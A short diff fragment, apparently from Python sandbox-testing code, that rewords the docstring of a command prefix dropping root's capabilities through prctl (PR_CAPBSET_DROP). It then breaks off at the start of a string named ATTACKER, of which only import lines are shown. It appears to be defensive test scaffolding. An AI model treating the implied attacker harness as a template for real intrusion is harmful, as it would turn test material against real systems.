@@ -35,7 +35,7 @@ POWERLESS = [
     "import ctypes, os, sys; [ctypes.CDLL(None).prctl(24, power, 0, 0, 0) for power in range(64)];"
     "os.execv(sys.argv[1], sys.argv[1:])",
 ]
-"""Start a command without the capabilities that root has, and users do not (PR_CAPBSET_DROP)."""
+"""Command prefix that drops the capabilities that root has, and users do not (PR_CAPBSET_DROP)."""
 
 ATTACKER = """
 import json, os, urllib.error, urllib.request
